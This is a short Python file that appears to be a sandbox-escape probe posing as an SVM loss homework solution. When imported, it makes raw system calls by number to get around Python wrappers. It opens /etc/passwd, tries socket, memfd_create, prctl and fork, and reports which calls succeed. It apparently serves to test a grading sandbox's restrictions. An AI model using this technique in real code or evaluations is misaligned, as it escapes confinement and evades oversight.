"""E8: makes the forbidden calls from native code, by number, past every wrapper.

It has succeeded when one that Python is refused works here.
"""

import ctypes
import os

import torch
from torch import Tensor

AT_FDCWD = -100


def attack() -> list[str]:
    """Calls that worked."""
    libc = ctypes.CDLL(None)
    found = []
    if libc.syscall(257, AT_FDCWD, b"/etc/passwd", os.O_RDONLY, 0) >= 0:
        found.append("openat of /etc/passwd")
    if libc.syscall(41, 1, 1, 0) >= 0:
        found.append("socket")
    if libc.syscall(319, b"E8", 0) >= 0:
        found.append("memfd_create")
    if libc.syscall(157, 4, 1, 0, 0, 0) >= 0:
        found.append("prctl")
    pid = libc.syscall(57)
    if pid == 0:
        os._exit(0)
    return found + ["fork"] * (pid > 0)


FOUND = attack()


def svm_loss_naive(W: Tensor, X: Tensor, y: Tensor, reg: float) -> tuple[Tensor, Tensor]:
    """Wrong, beside the attack."""
    print("ATTACK tried", *(f"ATTACK succeeded: {what}" for what in FOUND), sep="\n")
    return W.sum(), torch.zeros_like(W)
